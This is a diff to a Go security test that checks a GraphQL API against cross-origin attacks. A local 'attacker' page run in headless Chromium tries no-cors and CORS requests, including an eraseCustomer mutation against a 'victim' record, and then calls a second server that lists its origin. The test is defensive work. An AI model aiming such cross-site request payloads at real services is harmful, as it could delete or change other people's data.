@@ -31,6 +31,14 @@ type attackerSite struct {
 	mu      sync.Mutex
 	reports []string
 	got     chan string
+	next    string // what GET /next answers once set
+}
+
+// setNext makes GET /next answer u.
+func (a *attackerSite) setNext(u string) {
+	a.mu.Lock()
+	a.next = u
+	a.mu.Unlock()
 }
 
 func newAttackerSite(t *testing.T, ln net.Listener, page string) *attackerSite {
@@ -51,6 +59,16 @@ func newAttackerSite(t *testing.T, ln net.Listener, page string) *attackerSite {
 		default:
 		}
 		w.WriteHeader(http.StatusNoContent)
+	})
+	mux.HandleFunc("GET /next", func(w http.ResponseWriter, r *http.Request) {
+		a.mu.Lock()
+		next := a.next
+		a.mu.Unlock()
+		if next == "" {
+			w.WriteHeader(http.StatusNoContent)
+			return
+		}
+		_, _ = io.WriteString(w, next)
 	})
 	// Before the rebinding the page's same-origin /graphql is the
 	// attacker's: it answers 418 so the page knows to try again.
@@ -85,7 +103,7 @@ func (a *attackerSite) wait(t *testing.T, prefix string, d time.Duration) string
 func browse(t *testing.T, url string, flags ...string) {
 	t.Helper()
 	bin := chromium(t)
-	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
+	ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
 	cmd := exec.CommandContext(ctx, bin, append(append(testenv.ChromiumFlags(t.TempDir()), flags...), url)...)
 	// Chromium runs helper processes: stop the whole group it leads, so
 	// none writes to its profile directory after the test removed it.
@@ -141,6 +159,9 @@ func TestCrossOriginPageCannotDriveTheAPI(t *testing.T) {
 	attackLn := loopbackListener(t)
 	kefuURL := h.http.URL + "/graphql"
 	erase, _ := json.Marshal(map[string]any{"query": `mutation { eraseCustomer(input: {customerId: "victim", by: "drive-by", reason: "page"}) { version } }`})
+	// One page, one browser: it runs the attacks, then asks its own server
+	// (GET /next) for the address of a kefu that lists its origin and calls
+	// that one. A second browser on a rebound port was the flaky part.
 	page := fmt.Sprintf(`<!doctype html><html><body><script>
 const kefu = %q;
 async function report(s) { await fetch("/report", {method: "POST", body: s}); }
@@ -149,7 +170,9 @@ async function attempt(name, init) {
         await report(name + " status=" + r.status + " type=" + r.type + " body=" + body.slice(0, 300)); }
   catch (e) { await report(name + " threw " + e); }
 }
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
 (async () => {
+  await report("loaded");
   await attempt("blob", {method: "POST", mode: "no-cors", body: new Blob([%q])});
   await attempt("blob-json", {method: "POST", mode: "no-cors", body: new Blob([%q], {type: "application/json"})});
   await attempt("text", {method: "POST", mode: "no-cors", body: %q});
@@ -157,9 +180,17 @@ async function attempt(name, init) {
   await attempt("erase", {method: "POST", mode: "no-cors", body: new Blob([%q])});
   await attempt("cors-json", {method: "POST", headers: {"Content-Type": "application/json"}, body: %q});
   await report("done");
+  let next = "";
+  while (!next) { await sleep(100); try { const r = await fetch("/next"); if (r.status === 200) next = await r.text(); } catch (e) {} }
+  for (let i = 0; i < 20; i++) {
+    try { const r = await fetch(next, {method: "POST", headers: {"Content-Type": "application/json"}, body: %q});
+          await report("allowed status=" + r.status + " body=" + await r.text()); return; }
+    catch (e) { await report("retry " + i + " threw " + e); await sleep(250); }
+  }
+  await report("allowed threw every time");
 })();
 </script></body></html>`, kefuURL, registerMutation("nc-blob"), registerMutation("nc-blob-json"), registerMutation("nc-text"),
-		registerMutation("nc-form"), string(erase), registerMutation("cors-json"))
+		registerMutation("nc-form"), string(erase), registerMutation("cors-json"), registerMutation("cors-ok"))
 	site := newAttackerSite(t, attackLn, page)
 	browse(t, "http://"+attackLn.Addr().String()+"/")
 	site.wait(t, "done", 90*time.Second)
@@ -185,25 +216,12 @@ async function attempt(name, init) {
 		}
 	}
 
-	// The same page, its origin listed: the CORS request runs and the page
-	// reads the answer.
+	// The same page, its origin listed on another kefu: the CORS request
+	// runs and the page reads the answer.
 	origin := "http://" + attackLn.Addr().String()
 	h2 := startServer(t, options{cors: []string{origin}})
-	okPage := fmt.Sprintf(`<!doctype html><html><body><script>
-(async () => {
-  try { const r = await fetch(%q, {method: "POST", headers: {"Content-Type": "application/json"}, body: %q});
-        await fetch("/report", {method: "POST", body: "allowed status=" + r.status + " body=" + await r.text()}); }
-  catch (e) { await fetch("/report", {method: "POST", body: "allowed threw " + e}); }
-})();
-</script></body></html>`, h2.http.URL+"/graphql", registerMutation("cors-ok"))
-	_ = site.srv.Close()
-	ln2, err := net.Listen("tcp", attackLn.Addr().String())
-	if err != nil {
-		t.Fatalf("listen again on the page's origin: %v", err)
-	}
-	site2 := newAttackerSite(t, ln2, okPage)
-	browse(t, origin+"/")
-	rep := site2.wait(t, "allowed", 90*time.Second)
+	site.setNext(h2.http.URL + "/graphql")
+	rep := site.wait(t, "allowed", 90*time.Second)
 	if !strings.Contains(rep, "status=200") || !strings.Contains(rep, `"id":"cors-ok"`) {
 		t.Errorf("a listed origin could not call the API: %s", rep)
 	}
